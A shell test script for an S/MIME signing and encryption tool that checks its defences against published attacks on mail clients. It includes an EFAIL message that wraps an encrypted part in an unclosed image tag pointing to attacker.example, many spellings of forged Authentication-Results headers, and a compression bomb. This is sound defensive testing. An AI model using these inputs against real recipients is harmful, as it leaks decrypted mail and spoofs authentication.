#!/bin/sh
# What a verdict means, and decrypting safely: the published attacks on
# S/MIME clients (EFAIL; "Johnny, You Are Fired!") each get a test.
# See SECURITY.md for the threat model.
. "$TESTS_TOP/tests/lib.sh"

store_setup
gs cert import "$PKI/bob.crt" "$PKI/carol.crt" >/dev/null
B="$T_DIR/bob-store"
gs --home "$B" trust import "$PKI/root.crt" >/dev/null
gs --home "$B" cert import "$PKI/inter.crt" >/dev/null
gs --home "$B" key import "$PKI/bob.p12" --passphrase-file "$PKI/pass" >/dev/null
P="--passphrase-file $PKI/pass"

# the signed entity without the message headers: sign, then cut the
# message's own header fields, keeping the MIME part's
entity() {
	msg alice@example.org bob@example.org "$1" | gs sign $P >e.full
	awk 'BEGIN { h = 1 } h && /^Content-Type:/ { p = 1 } h && /^$/ { h = 0 }
	     !h || p' e.full
}

# ---- partial signatures ----
{ cat <<EOM
From: alice <alice@example.org>
To: bob@example.org
Subject: a signed part beside an unsigned one
Date: Sat, 28 Nov 2026 12:00:00 +0000
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="outer"

--outer
Content-Type: text/plain

Transfer 1,000,000 EUR to account 666. (not signed)
--outer
EOM
entity "the signed part"
printf '\n--outer--\n'; } >partial.eml
gs verify --json <partial.eml >partial.json
check_exit 1 "a signature on one part of a multipart/mixed is not good (exit 1)" gs verify -q <partial.eml
check "the report says the signature is partial" contains partial.json '"partial"'
check "the report names the signed part" contains partial.json '"part":"2"'
gs verify --annotate --authserv-id mx.test <partial.eml >partial.ar 2>/dev/null
check "annotate says smime=fail for a partial signature" contains partial.ar "^Authentication-Results: mx.test; smime=fail"

# a forwarded signed message
{ cat <<EOM
From: alice <alice@example.org>
To: bob@example.org
Subject: Fwd: something signed
Date: Sat, 28 Nov 2026 12:00:00 +0000
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="fwd"

--fwd
Content-Type: text/plain

See below.
--fwd
Content-Type: message/rfc822

EOM
msg alice@example.org carol@example.org "forwarded" | gs sign $P
printf '\n--fwd--\n'; } >fwd.eml
gs verify --json <fwd.eml >fwd.json
check_exit 1 "a forwarded signed message does not make the outer message good" gs verify -q <fwd.eml
check "the report calls it a signed attached message" contains fwd.json 'attached message'

# the whole body signed is still good (control)
msg alice@example.org bob@example.org "whole" | gs sign $P >whole.eml
check "a signature over the whole body is good" gs verify -q <whole.eml

# ---- the SignedData itself ----
# hidden encapsulated content in a detached signature
msg alice@example.org bob@example.org "shown" | gs sign $P >shown.eml
awk '/^Content-Type: application\/pkcs7-signature/ { s = 1 } s && /^$/ { b = 1; next } b && /^--/ { exit } b' shown.eml | base64 -d >sig.der
printf 'Transfer everything to Mallory.\r\n' >hidden.txt
python3 "$TESTS_TOP/tests/sec/embed-econtent.py" sig.der hidden.txt sig2.der
check "the test made a SignedData with eContent" sh -c "openssl cms -cmsout -print -inform DER -in sig2.der | grep -q 'eContent:'"
b64=$(base64 -w 76 sig2.der)
awk -v sig="$b64" '/^Content-Type: application\/pkcs7-signature/ { s = 1 }
	s && /^$/ && !done { print; print sig; skip = 1; done = 1; next }
	skip && /^--/ { skip = 0 } !skip' shown.eml >hidden.eml
gs verify --json <hidden.eml >hidden.json
check_exit 1 "a detached signature carrying other hidden content is not good" gs verify -q <hidden.eml
check "the reason is content-mismatch" contains hidden.json '"content-mismatch"'

# no signerInfos: a certificate bag in place of the signature
openssl crl2pkcs7 -nocrl -certfile "$PKI/alice.crt" -outform DER -out bag.der
b64=$(base64 -w 76 bag.der)
awk -v sig="$b64" '/^Content-Type: application\/pkcs7-signature/ { s = 1 }
	s && /^$/ && !done { print; print sig; skip = 1; done = 1; next }
	skip && /^--/ { skip = 0 } !skip' shown.eml >nosigners.eml
gs verify --json <nosigners.eml >nosigners.json
check_exit 1 "SignedData without signerInfos is not good" gs verify -q <nosigners.eml
check "the reason is no-signers" contains nosigners.json '"no-signers"'

# two signers, one of them untrusted
msg alice@example.org bob@example.org "two signers" >two.eml
openssl cms -sign -in two.eml -signer "$PKI/alice.crt" -inkey "$PKI/alice.key" \
	-signer "$PKI/mallory.crt" -inkey "$PKI/mallory.key" -certfile "$PKI/alice-chain.pem" >two.sig 2>/dev/null
{ grep -E '^(From|To|Subject|Date|Message-ID):' two.eml; cat two.sig; } >two.signed
gs verify --json <two.signed >two.json
check_exit 1 "two signers of which one is untrusted: not good" gs verify -q <two.signed
check "one signer is good, the other bad" sh -c 'grep -q "\"status\":\"good\"" two.json && grep -q "\"untrusted\"" two.json'

# micalg naming another digest than the signature uses
sed 's/micalg=sha-256/micalg=sha-512/' shown.eml >micalg.eml
gs verify --json <micalg.eml >micalg.json
check_exit 1 "a micalg that names another digest is not good" gs verify -q <micalg.eml
check "the reason is micalg-mismatch" contains micalg.json '"micalg-mismatch"'

# ---- who signed ----
# a display name that looks like an address does not count
msg alice@example.org bob@example.org "display" | sed 's/^From: .*/From: "alice@example.org" <eve@example.org>/' |
	gs sign --from alice@example.org $P >display.eml
gs verify --json <display.eml >display.json
check_exit 1 "a display name that looks like the signer's address does not make it match" gs verify -q <display.eml
check "the reason is signer-not-from" contains display.json '"signer-not-from"'
# two From mailboxes
msg alice@example.org bob@example.org "two from" | sed 's/^From: .*/From: alice <alice@example.org>, eve <eve@example.org>/' |
	gs sign --from alice@example.org $P >twofrom.eml
check_exit 1 "a From header with two mailboxes matches no signer" gs verify -q <twofrom.eml
msg alice@example.org bob@example.org "no from" | gs sign $P | sed '/^From: /d' >nofrom.eml
check_exit 1 "a message without From matches no signer" gs verify -q <nofrom.eml

# ---- protected headers (RFC 9788) ----
{ cat <<EOM
From: alice <alice@example.org>
To: bob@example.org
Subject: Lunch?
Date: Sat, 28 Nov 2026 12:00:00 +0000
Message-ID: <hp.1@example.org>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8; hp="clear"
From: alice <alice@example.org>
To: bob@example.org
Subject: Quarterly numbers
Date: Sat, 28 Nov 2026 12:00:00 +0000
Message-ID: <hp.1@example.org>

The numbers are in.
EOM
} >hp-src.eml
# build the signed entity by hand: the content part carries the headers
awk 'NR <= 6' hp-src.eml >hp.head
awk 'NR > 6' hp-src.eml | sed 's/$/\r/' >hp.part
openssl cms -sign -binary -in hp.part -signer "$PKI/alice.crt" -inkey "$PKI/alice.key" \
	-certfile "$PKI/alice-chain.pem" -outform DER -out hp.sig 2>/dev/null
{ cat hp.head
  printf 'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256; boundary="hp"\n\n--hp\n'
  awk 'NR > 6' hp-src.eml
  printf '\n--hp\nContent-Type: application/pkcs7-signature; name=smime.p7s\nContent-Transfer-Encoding: base64\n\n'
  base64 -w 76 hp.sig; printf '\n--hp--\n'; } >hp.eml
gs verify --json <hp.eml >hp.json 2>hp.err
check "a message with protected headers verifies" gs verify -q <hp.eml
check "the report says the headers are protected" contains hp.json '"protected_headers":true'
check "the outer Subject that disagrees is flagged" contains hp.json '"header_mismatches":\["Subject"\]'
gs verify <hp.eml >/dev/null 2>hp.err
check "stderr warns about the outer Subject" contains hp.err "outer Subject differs"

# ---- decrypting safely (EFAIL) ----
msg alice@example.org bob@example.org "for bob" | gs encrypt --to bob@example.org $P |
	awk 'BEGIN { h = 1 } h && /^Content-Type:/ { p = 1 } h && /^$/ { h = 0 } !h || (p && /^Content-/)' >enc.part
{ cat <<EOM
From: mallory <mallory@example.org>
To: bob@example.org
Subject: EFAIL
Date: Sat, 28 Nov 2026 12:00:00 +0000
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="efail"

--efail
Content-Type: text/html

<img src="http://attacker.example/
--efail
EOM
cat enc.part
printf '\n--efail\nContent-Type: text/html\n\n">\n--efail--\n'; } >efail.eml
gs --home "$B" decrypt $P <efail.eml >efail.out 2>efail.err
rc=$?
check "decrypt leaves an encrypted part beside attacker parts encrypted (exit 0)" test "$rc" = 0
check "the message passes through unchanged" cmp -s efail.eml efail.out
check "stderr reports the part left encrypted" contains efail.err "part 2: encrypted part left encrypted"
gs --home "$B" verify --json $P <efail.eml >efail.json 2>/dev/null
check "verify does not open it either" contains efail.json '"encrypted":false'

# an encrypted message attached (message/rfc822) is opened, and said so
{ cat <<EOM
From: alice <alice@example.org>
To: bob@example.org
Subject: Fwd: encrypted
Date: Sat, 28 Nov 2026 12:00:00 +0000
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="att"

--att
Content-Type: text/plain

attached
--att
Content-Type: message/rfc822

EOM
msg alice@example.org bob@example.org "inner secret" | gs encrypt --to bob@example.org $P
printf '\n--att--\n'; } >att.eml
gs --home "$B" decrypt $P <att.eml >att.out 2>att.err
check "an encrypted attached message is decrypted" contains att.out "this is a test message"
check "and reported as such" contains att.err "part 2.1: attached message decrypted"

# authenticated encryption is reported as such
msg alice@example.org bob@example.org "gcm" | gs encrypt --sign --cipher aes256-gcm --to bob@example.org $P >gcm.eml
msg alice@example.org bob@example.org "cbc" | gs encrypt --sign --to bob@example.org $P >cbc.eml
gs --home "$B" verify --json $P <gcm.eml >gcm.json
gs --home "$B" verify --json $P <cbc.eml >cbc.json
check "GCM: the report says the encryption was authenticated" contains gcm.json '"encrypted":true,"authenticated":true,"cipher":"aes-256-gcm"'
check "CBC: the report says it was not" contains cbc.json '"encrypted":true,"authenticated":false,"cipher":"aes-256-cbc"'
check "and that the decrypted content was signed" contains cbc.json '"signed":true'

# ---- Authentication-Results forgery (RFC 8601 section 5) ----
# Only this host may write a field with its authserv-id: one in arriving
# mail is forged, whatever its spelling, signed mail or not. Other
# hosts' fields, and every other byte, stay as they were.
{ printf 'Authentication-Results: mx.test; smime=pass body.smime-identifier=ceo@example.org\n'; cat partial.eml; } >forged.eml
gs verify --annotate --authserv-id mx.test <forged.eml >forged.out 2>/dev/null
check "a forged Authentication-Results with our authserv-id is removed" \
	test "$(grep -c '^Authentication-Results: mx.test' forged.out)" = 1
check "our own header says fail" contains forged.out "^Authentication-Results: mx.test; smime=fail"
{ printf 'Authentication-Results: other.example; smime=pass\n'; cat whole.eml; } >other.eml
gs verify --annotate --authserv-id mx.test <other.eml >other.out 2>/dev/null
check "another host's Authentication-Results stays" contains other.out "^Authentication-Results: other.example; smime=pass"
{ printf 'Authentication-Results: "MX.TEST."; smime=fail\n'; cat whole.eml; } >forged-good.eml
gs verify --annotate --authserv-id mx.test <forged-good.eml >forged-good.out 2>/dev/null
check "a good signature: the forged field (quoted, upper case, trailing dot) goes, ours says pass" \
	sh -c "head -1 forged-good.out | grep -q '^Authentication-Results: mx.test; smime=pass' &&
	       test \$(grep -ci 'mx.test' forged-good.out) = 1"

# each spelling in a plain message: `DESC|FIELD` (printf %b escapes), the
# field between From/To and the rest; the output must be our field, then
# the message without it, byte for byte, exit 2 (not signed)
msg alice@example.org bob@example.org "forged" >ar-msg.eml
head -2 ar-msg.eml >ar-top
tail -n +3 ar-msg.eml >ar-rest
while IFS='|' read -r desc field; do
	printf '%b' "$field" >ar-field
	cat ar-top ar-field ar-rest >ar-in.eml
	{ echo 'Authentication-Results: mx.test; smime=none'; cat ar-top ar-rest; } >ar-want
	gs verify --annotate --authserv-id mx.test <ar-in.eml >ar-out 2>ar-err
	rc=$?
	if [ "$rc" = 2 ] && cmp -s ar-out ar-want; then
		pass "forged Authentication-Results removed: $desc"
	else
		fail "forged Authentication-Results removed: $desc" "exit $rc; $(cat ar-out ar-err)"
	fi
done <<'EOF'
as it is|Authentication-Results: mx.test; smime=pass\n
in upper case|Authentication-Results: MX.TEST; smime=pass\n
in mixed case|Authentication-Results: Mx.Test; smime=pass\n
as a quoted-string|Authentication-Results: "mx.test"; smime=pass\n
with quoted-pairs|Authentication-Results: "mx\\.t\\est"; smime=pass\n
with a trailing dot|Authentication-Results: mx.test.; smime=pass\n
quoted, mixed case, trailing dot|Authentication-Results: "Mx.Test."; smime=pass\n
after a comment|Authentication-Results: (trust me (really)) mx.test; smime=pass\n
after folding white space|Authentication-Results:\n\t  mx.test; smime=pass\n
with a version|Authentication-Results: mx.test 1; smime=pass\n
folded over three lines|Authentication-Results: mx.test;\n smime=pass\n body.smime-identifier=ceo@example.org\n
field name in upper case|AUTHENTICATION-RESULTS: mx.test; smime=pass\n
field name in lower case, a blank before the colon|authentication-results : mx.test; smime=pass\n
twice, two spellings|Authentication-Results: mx.test; smime=pass\nAuthentication-Results: "MX.TEST."; smime=pass\n
as an encoded-word|Authentication-Results: =?us-ascii?q?mx.test?=; smime=pass\n
in ARC-Authentication-Results|ARC-Authentication-Results: i=1; mx.test; smime=pass\n
in ARC-Authentication-Results, spaced, quoted, lower-case name|arc-authentication-results: i = 2; "mx.test."; smime=pass\n
EOF

# other hosts' fields: kept byte for byte, ours added
while IFS='|' read -r desc field; do
	printf '%b' "$field" >ar-field
	cat ar-top ar-field ar-rest >ar-in.eml
	{ echo 'Authentication-Results: mx.test; smime=none'; cat ar-in.eml; } >ar-want
	gs verify --annotate --authserv-id mx.test <ar-in.eml >ar-out 2>ar-err
	if cmp -s ar-out ar-want; then pass "kept: $desc"; else fail "kept: $desc" "$(cat ar-out ar-err)"; fi
done <<'EOF'
another host's field|Authentication-Results: other.example; smime=pass\n
a host whose name starts with ours|Authentication-Results: mx.test.example; smime=pass\n
our name in a comment only|Authentication-Results: (mx.test) other.example; smime=pass\n
another host's ARC field|ARC-Authentication-Results: i=1; other.example; smime=pass\n
a field of another name|X-Authentication-Results: mx.test; smime=pass\n
EOF

# a message verify cannot examine (a header field over the 1 MiB limit):
# with --passthrough it goes on unannotated, without the forged field
{ cat ar-top; printf 'Authentication-Results: "mx.test."; smime=pass\nX-Huge: '
  head -c 1100000 /dev/zero | tr '\0' a; printf '\n'; cat ar-rest; } >ar-huge.eml
sed '/^Authentication-Results:/d' ar-huge.eml >ar-huge.want
check_exit 0 "--passthrough: a message over a limit is passed on" \
	sh -c "'$GALSMIME' verify --annotate --passthrough --authserv-id mx.test <ar-huge.eml >ar-huge.out"
check "--passthrough: passed on without the forged field, every other byte as it was" cmp ar-huge.out ar-huge.want
# without --annotate the message is written as it came
printf 'Authentication-Results: mx.test; smime=pass\n' | cat ar-top - ar-rest >ar-in.eml
gs verify --authserv-id mx.test <ar-in.eml >ar-out 2>/dev/null
check "verify without --annotate writes the message as it came" cmp ar-out ar-in.eml
check_exit 64 "an authserv-id with a space is a usage error" \
	sh -c "'$GALSMIME' verify --annotate --authserv-id 'mx test' <ar-in.eml"

# our field whatever the certificate's names: a 3000-character name
# (no address: the identifier would be the name, and the issuer is the
# same name) is left out, and the field stays within 78 columns
L=$(head -c 3000 /dev/zero | tr '\0' A)
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout long.key \
	-subj "/O=galsmime test/name=$L" -days 2 -out long.crt 2>/dev/null
check "the test made a certificate with a 3000-character name" \
	sh -c "openssl x509 -in long.crt -noout -subject | grep -q '$L'"
msg alice@example.org bob@example.org "long name" >long.eml
openssl cms -sign -in long.eml -signer long.crt -inkey long.key >long.sig 2>/dev/null
{ grep -E '^(From|To|Subject|Date|Message-ID):' long.eml; cat long.sig; } >long.signed
gs verify --annotate --authserv-id mx.test <long.signed >long.out 2>/dev/null
awk '/^$/ { exit } { print }' long.out >long.head
awk 'NR == 1 || /^[ \t]/ { print; next } { exit }' long.out >long.ar
check "a 3000-character signer name: our field says fail" contains long.ar '^Authentication-Results: mx.test; smime=fail'
check "a 3000-character signer name: left out, every line of our field within 78 columns" \
	sh -c "! grep -q AAAA long.ar && test \$(awk '{ if (length(\$0) > m) m = length(\$0) } END { print m }' long.ar) -le 78"
check "a 3000-character signer name: no header line over 998 octets" \
	test "$(awk '{ if (length($0) > m) m = length($0) } END { print m }' long.head)" -le 998

# ---- compressed-data is never inflated ----
python3 "$TESTS_TOP/tests/sec/compressed.py" bomb.der 512
check "the test made a CompressedData of under 1 MB" test "$(stat -c %s bomb.der)" -lt 1000000
check "openssl reads it as compressed-data" sh -c "openssl cms -cmsout -print -inform DER -in bomb.der | grep -q 'id-smime-ct-compressedData'"
{ printf 'From: mallory <mallory@example.org>\nTo: bob@example.org\nSubject: bomb\nMIME-Version: 1.0\n'
  printf 'Content-Type: application/pkcs7-mime; smime-type=compressed-data; name=smime.p7z\nContent-Transfer-Encoding: base64\n\n'
  base64 -w 76 bomb.der; } >bomb.eml
for cmd in decrypt verify; do
	/usr/bin/time -f %M -o bomb.rss "$GALSMIME" --home "$B" "$cmd" $P <bomb.eml >bomb.out 2>bomb.err
	rc=$?
	check "$cmd: a compression bomb is refused (exit 65)" test "$rc" = 65
	check "$cmd: nothing on stdout" test ! -s bomb.out
	check "$cmd: the error says compressed-data is not supported" contains bomb.err "compressed-data .* not supported"
	check "$cmd: memory stays small (under 64 MB)" test "$(tail -1 bomb.rss)" -lt 65536
done
